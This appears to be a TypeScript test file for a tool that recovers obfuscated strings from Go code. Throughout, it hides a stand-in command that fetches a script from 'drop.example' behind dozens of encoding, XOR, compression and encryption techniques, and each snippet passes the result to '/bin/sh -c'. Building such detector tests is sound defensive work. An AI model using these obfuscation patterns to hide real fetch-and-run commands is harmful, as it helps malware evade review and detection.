import { createCipheriv } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { textsOf } from '../../support/values.ts';

/** What is hidden in all of them: a program that does not exist, at a host that cannot. */
const HIDDEN = 'fetchit http://drop.example/x.sh';

const bytesOf = (text: string) => [...Buffer.from(text)];
const list = (numbers: readonly number[]) => numbers.join(', ');
const quoted = (parts: readonly string[]) => parts.map((part) => `"${part}"`).join(', ');
const base64 = Buffer.from(HIDDEN).toString('base64');
const hex = Buffer.from(HIDDEN).toString('hex');
const reversed = [...HIDDEN].reverse().join('');
const letters = [...new Set(HIDDEN)];
const places = [...HIDDEN].map((letter) => letters.indexOf(letter));
const xored = (key: string) =>
  bytesOf(HIDDEN).map((byte, i) => byte ^ key.charCodeAt(i % key.length));
const raw = (bytes: Uint8Array) =>
  `"${[...bytes].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}"`;
const rot = (by: number) =>
  HIDDEN.replace(/[a-z]/g, (c) => String.fromCharCode(97 + ((c.charCodeAt(0) - 97 + by) % 26)));
const KEY = '0123456789abcdef';
const encrypt = (name: string, iv: Buffer) => {
  const run = createCipheriv(name as 'aes-128-ctr', KEY, iv);
  return Buffer.concat([run.update(HIDDEN.padEnd(48)), run.final()]);
};
const IV = Buffer.alloc(16, 7);

/** Statements that leave the text in `c`; `!` lines in front are declarations outside of the function. */
const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
  'index arrays': [
    `t := []string{${quoted(letters)}}; c := ${places.map((i) => `t[${i}]`).join(' + ')}`,
    `t := [...]string{${quoted(letters)}}; c := ""; for _, i := range []int{${list(places)}} { c += t[i] }`,
    `!var t = "${letters.join('')}"\nc := ""; for _, i := range []int{${list(places)}} { c += string(t[i]) }`,
    `!var t = map[int]string{${letters.map((l, i) => `${i}: "${l}"`).join(', ')}}\nc := ${places.map((i) => `t[${i}]`).join('+')}`,
    `t := []rune("${letters.join('')}"); o := make([]rune, 0); for _, i := range [...]int{${list(places)}} { o = append(o, t[i]) }; c := string(o)`,
    `!var t [${letters.length}]string\nfunc init() { for i, r := range "${letters.join('')}" { t[i] = string(r) } }\nc := ${places.map((i) => `t[${i}]`).join('+')}`,
  ],
  concatenation: [
    `c := "fetch" + "it ht" + "tp://dr" + "op.exa" + "mple/x.sh"`,
    `a, b := "fetchit ht", "tp://drop.exam"; c := a + b; c += "ple/x.sh"`,
    `!const a = "fetchit " + "htt"\nconst b = a + "p://dr"\nc := b + "op.example/" + "x.sh"`,
    `!var parts struct{ a, b string }\nfunc init() { parts.a = "fetchit http:/"; parts.b = "/drop.example/x.sh" }\nc := parts.a + parts.b`,
    `f := func(s ...string) (o string) { for _, p := range s { o += p }; return }; c := f("fetchit ", "http", "://drop", ".example", "/x.sh")`,
  ],
  join: [
    `c := strings.Join([]string{"fetchit", "http://drop.example/x.sh"}, " ")`,
    `!var parts = []string{"fetchit http:", "", "drop.example", "x.sh"}\nc := strings.Join(parts, "/")`,
    `p := []string{}; p = append(p, "fetchit"); p = append(p, "http://drop.example/x.sh"); c := strings.Join(p, " ")`,
    `c := strings.Join(strings.Split("fetchit#http://drop.example/x.sh", "#"), " ")`,
    `c := string(bytes.Join([][]byte{[]byte("fetchit"), []byte("http://drop.example/x.sh")}, []byte{' '}))`,
    `var sb strings.Builder; for _, p := range []string{"fetchit ", "http://", "drop.example", "/x.sh"} { sb.WriteString(p) }; c := sb.String()`,
  ],
  format: [
    `c := fmt.Sprintf("%s %s://%s/%s", "fetchit", "http", "drop.example", "x.sh")`,
    `c := fmt.Sprintf("%[2]s %[1]s", "http://drop.example/x.sh", "fetchit")`,
    `c := fmt.Sprintf("fetch%c%c http:%v%v", 'i', 't', "//", "drop.example/x.sh")`,
    `h := fmt.Sprint("drop", ".", "example"); c := fmt.Sprintf("fetchit http://%s/x.sh", h)`,
    `b := bytes.Buffer{}; b.WriteString("fetchit "); fmt.Fprintf(&b, ""); c := "fetchit " + fmt.Sprintf("%s", []byte("http://drop.example/x.sh"))`,
    `t := template.Must(template.New("a").Parse("{{.A}} http://{{.B}}/x.sh")); var b strings.Builder; t.Execute(&b, struct{ A, B string }{"fetchit", "drop.example"}); c := b.String()`,
  ],
  'bytes and runes': [
    `c := string([]byte{${list(bytesOf(HIDDEN))}})`,
    `c := string([]rune{${[...HIDDEN].map((l) => `'${l}'`).join(', ')}})`,
    `c := ""; for _, n := range []int{${list(bytesOf(HIDDEN))}} { c += string(rune(n)) }`,
    `!var b = [...]byte{${list(bytesOf(HIDDEN))}}\nc := string(b[:])`,
    `c := "\\x66\\x65\\x74\\x63\\x68" + "\\151\\164\\u0020" + string(append([]byte("http"), "://drop.example/x.sh"...))`,
    `b := make([]byte, 0, 40); for _, n := range []uint16{${list(bytesOf(HIDDEN).map((n) => n + 1000))}} { b = append(b, byte(n-1000)) }; c := string(b)`,
    `u := []uint64{${list([...Buffer.from(HIDDEN)].map((n) => n * 3))}}; c := ""; for _, n := range u { c = c + string(rune(n/3)) }`,
  ],
  base64: [
    `b, _ := base64.StdEncoding.DecodeString("${base64}"); c := string(b)`,
    `b, err := base64.RawStdEncoding.DecodeString("${base64.replaceAll('=', '')}"); if err != nil { return }; c := string(b)`,
    `!func dec(s string) string { b, err := base64.URLEncoding.DecodeString(s); if err != nil { panic(err) }; return string(b) }\nc := dec("${base64}")`,
    `d := make([]byte, 100); n, _ := base64.StdEncoding.Decode(d, []byte("${base64}")); c := string(d[:n])`,
    `r := base64.NewDecoder(base64.StdEncoding, strings.NewReader("${base64}")); b, _ := io.ReadAll(r); c := string(b)`,
    `e := base64.NewEncoding("zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210-_"); b, _ := e.DecodeString("${[...base64].map((l) => (l === '=' ? '=' : ('zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210-_'['ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'.indexOf(l)] ?? ''))).join('')}"); c := string(b)`,
    `b, _ := base64.StdEncoding.DecodeString("${Buffer.from(base64).toString('base64')}"); b, _ = base64.StdEncoding.DecodeString(string(b)); c := string(b)`,
  ],
  hex: [
    `b, _ := hex.DecodeString("${hex}"); c := string(b)`,
    `d := make([]byte, hex.DecodedLen(${hex.length})); hex.Decode(d, []byte("${hex}")); c := string(d)`,
    `c := ""; s := "${hex}"; for i := 0; i < len(s); i += 2 { n, _ := strconv.ParseUint(s[i:i+2], 16, 8); c += string(rune(n)) }`,
    `b, _ := io.ReadAll(hex.NewDecoder(strings.NewReader("${hex}"))); c := string(b)`,
    `s := strings.ReplaceAll("${hex.replace(/../g, '%$&')}", "%", ""); b, _ := hex.DecodeString(s); c := string(b)`,
    `c, _ := url.QueryUnescape("${hex.replace(/../g, '%$&')}")`,
    `c, _ := strconv.Unquote("\\"${hex.replace(/../g, '\\\\x$&')}\\"")`,
  ],
  xor: [
    `b := []byte{${list(xored('K'))}}; for i := range b { b[i] ^= 'K' }; c := string(b)`,
    `k := "key"; b := []byte{${list(xored('key'))}}; o := make([]byte, len(b)); for i := 0; i < len(b); i++ { o[i] = b[i] ^ k[i%len(k)] }; c := string(o)`,
    `!const k = 0x21\nfunc x(s string) (o string) { for _, r := range s { o += string(r ^ k) }; return }\nc := x(${raw(Uint8Array.from(xored('!')))})`,
    `!var enc = []byte{${list(xored('K'))}}\nfunc init() { for i, b := range enc { enc[i] = b ^ 75 } }\nc := string(enc)`,
    `!func x(d, k []byte) string { var o bytes.Buffer; for i, b := range d { o.WriteByte(b ^ k[i%len(k)]) }; return o.String() }\nb, _ := hex.DecodeString("${Buffer.from(xored('abc')).toString('hex')}"); c := x(b, []byte("abc"))`,
    `b, _ := base64.StdEncoding.DecodeString("${Buffer.from(xored('Z')).toString('base64')}"); c := strings.Map(func(r rune) rune { return r ^ 'Z' }, string(b))`,
    `k := byte(1); c := ""; for _, b := range []byte{${list(bytesOf(HIDDEN).map((b, i) => b ^ ((1 + i * 3) & 255)))}} { c += string(rune(b ^ k)); k += 3 }`,
  ],
  'reversal and rotation': [
    `r := []rune("${reversed}"); for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 { r[i], r[j] = r[j], r[i] }; c := string(r)`,
    `c := ""; for _, r := range "${reversed}" { c = string(r) + c }`,
    `!func rev(s string) string { if s == "" { return "" }; return rev(s[1:]) + s[:1] }\nc := rev("${reversed}")`,
    `b := []byte("${reversed}"); slices.Reverse(b); c := string(b)`,
    `c := strings.Map(func(r rune) rune { if r >= 'a' && r <= 'z' { return 'a' + (r-'a'+13)%26 }; return r }, "${rot(13)}")`,
    `o := []byte("${rot(3)}"); for i, b := range o { if b >= 'a' && b <= 'z' { o[i] = 'a' + (b-'a'+23)%26 } }; c := string(o)`,
    `c := strings.NewReplacer("@", "e", "$", "t").Replace("f@$chi$ h$$p://drop.@xampl@/x.sh")`,
    `c := ""; for i := len("${reversed}") - 1; i >= 0; i-- { c += "${reversed}"[i : i+1] }`,
  ],
  packed: [
    `z, _ := gzip.NewReader(strings.NewReader(${raw(gzipSync(HIDDEN))})); b, _ := io.ReadAll(z); c := string(b)`,
    `z, err := zlib.NewReader(bytes.NewReader([]byte{${list([...deflateSync(HIDDEN)])}})); if err != nil { return }; defer z.Close(); var o bytes.Buffer; io.Copy(&o, z); c := o.String()`,
    `b, _ := io.ReadAll(flate.NewReader(bytes.NewReader([]byte(${raw(deflateRawSync(HIDDEN))})))); c := string(b)`,
    `d, _ := base64.StdEncoding.DecodeString("${gzipSync(HIDDEN).toString('base64')}"); z, _ := gzip.NewReader(bytes.NewBuffer(d)); var o strings.Builder; io.Copy(&o, z); c := o.String()`,
    `!func unpack(b []byte) string { r, err := gzip.NewReader(bytes.NewReader(b)); if err != nil { return "" }; o, err := io.ReadAll(r); if err != nil { return "" }; return string(o) }\nc := unpack([]byte{${list([...gzipSync(HIDDEN)])}})`,
  ],
  encrypted: [
    `b, _ := aes.NewCipher([]byte("${KEY}")); d := []byte{${list([...encrypt('aes-128-ctr', IV)])}}; s := cipher.NewCTR(b, bytes.Repeat([]byte{7}, 16)); s.XORKeyStream(d, d); c := strings.TrimSpace(string(d))`,
    `b, err := aes.NewCipher([]byte("${KEY}")); if err != nil { panic(err) }; d := []byte{${list([...encrypt('aes-128-cbc', IV)])}}; o := make([]byte, len(d)); cipher.NewCBCDecrypter(b, bytes.Repeat([]byte{7}, aes.BlockSize)).CryptBlocks(o, d); c := strings.TrimSpace(string(o[:48]))`,
    `r, _ := rc4.NewCipher([]byte("Key")); d := []byte{${list(rc4(HIDDEN, 'Key'))}}; r.XORKeyStream(d, d); c := string(d)`,
    `!func open(k, d []byte) string { b, _ := aes.NewCipher(k); g, _ := cipher.NewGCM(b); n := g.NonceSize(); o, err := g.Open(nil, d[:n], d[n:], nil); if err != nil { return "" }; return string(o) }\nc := open([]byte("${KEY}"), []byte{${list(gcm())}})`,
    `k := sha256.Sum256([]byte("secret")); d := []byte{${list(bytesOf(HIDDEN).map((b, i) => b ^ (sha()[i % 32] ?? 0)))}}; for i := range d { d[i] ^= k[i%32] }; c := string(d)`,
  ],
  chains: [
    `b, _ := hex.DecodeString("${Buffer.from(Buffer.from(xored('q')).toString('base64')).toString('hex')}"); b, _ = base64.StdEncoding.DecodeString(string(b)); for i := range b { b[i] ^= 'q' }; c := string(b)`,
    `var v struct{ C string }; json.Unmarshal([]byte("{\\"c\\":\\"${reversed}\\"}"), &v); c := ""; for _, r := range v.C { c = string(r) + c }`,
    `p := strings.Fields("fetchit  http://drop.example/x.sh"); c := strings.Join(p, string(rune(32)))`,
    `type s struct{ f func(string) string }; x := s{strings.ToLower}; c := x.f("FETCHIT HTTP://DROP.EXAMPLE/X.SH")`,
    `c := html.UnescapeString("fetchit http&#58;&#x2f;&#47;drop&#46;example&sol;x.sh")`,
    `c := strings.TrimSuffix(strings.TrimPrefix("##fetchit http://drop.example/x.sh%%", "##"), "%%"); c = strings.Title(c); c = strings.ToLower(c)`,
  ],
};

function rc4(text: string, key: string): readonly number[] {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key.charCodeAt(i % key.length)) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  let [i, j] = [0, 0];
  return bytesOf(text).map((byte) => {
    i = (i + 1) & 255;
    j = (j + s[i]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
    return byte ^ s[(s[i]! + s[j]!) & 255]!;
  });
}

function gcm(): readonly number[] {
  const nonce = Buffer.alloc(12, 3);
  const run = createCipheriv('aes-128-gcm', KEY, nonce);
  const body = Buffer.concat([run.update(HIDDEN), run.final()]);
  return [...nonce, ...body, ...run.getAuthTag()];
}

function sha(): Uint8Array {
  return new Uint8Array(
    Buffer.from('2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b', 'hex'),
  );
}

const IMPORTS = [
  'bytes',
  'compress/flate',
  'compress/gzip',
  'compress/zlib',
  'crypto/aes',
  'crypto/cipher',
  'crypto/rc4',
  'crypto/sha256',
  'encoding/base64',
  'encoding/hex',
  'encoding/json',
  'fmt',
  'html',
  'io',
  'net/url',
  'os/exec',
  'slices',
  'strconv',
  'strings',
  'text/template',
];

/** A file in which one of the spellings hides what `Run` starts. */
function fileOf(spelling: string): string {
  const lines = spelling.split('\n');
  const code = lines.pop() ?? '';
  const declarations = lines.join('\n').replace(/^!/, '');
  const imports = IMPORTS.map((path) => `\t"${path}"`).join('\n');
  return `package m\n\nimport (\n${imports}\n)\n\n${declarations}\n\nfunc Run() {\n\t${code}\n\texec.Command("/bin/sh", "-c", c).Run()\n}\n`;
}

describe.each(Object.entries(TECHNIQUES))('%s', (_, spellings) => {
  test.each(spellings.map((spelling, i) => [i + 1, spelling] as const))(
    'spelling %i',
    async (_number, spelling) => {
      const { strings, gaps } = await textsOf({ 'm.go': fileOf(spelling) });
      const commands = strings.filter(({ how }) => how.includes('command'));
      expect(commands.map(({ value }) => value)).toEqual([`/bin/sh -c '${HIDDEN}'`]);
      expect(gaps).toEqual([]);
    },
  );

  test('has at least five spellings', () => {
    expect(spellings.length).toBeGreaterThanOrEqual(5);
  });
});

test.each([
  'sh, flag := "/bin/sh", "-c"; exec.Command(sh, flag, "fetchit http://drop.example/x.sh").Run()',
  'const sh = "/bin/sh"; args := []string{"-c", "fetchit http://drop.example/x.sh"}; exec.Command(sh, args...).Run()',
  'x := []string{"/bin/sh", "-c"}; exec.Command(x[0], x[1], "fetchit http://drop.example/x.sh").Start()',
  'type t struct{ n string; a []string }; v := t{"/bin/sh", []string{"-c", "fetchit http://drop.example/x.sh"}}; exec.Command(v.n, v.a...).Start()',
  'run := exec.Command; run("/bin/" + "sh", "-c", "fetchit http://drop.example/x.sh").Run()',
  's := "/bin/sh"; func(a ...string) { exec.Command(s, a...).Run() }("-c", "fetchit http://drop.example/x.sh")',
])('shell and flag in variables: %s', async (code) => {
  const source = `package m\n\nimport "os/exec"\n\nfunc Run() {\n\t${code}\n}\n`;
  const { strings } = await textsOf({ 'm.go': source });
  const commands = strings.filter(({ how }) => how.includes('command'));
  expect(commands.map(({ value }) => value)).toEqual([`/bin/sh -c '${HIDDEN}'`]);
});
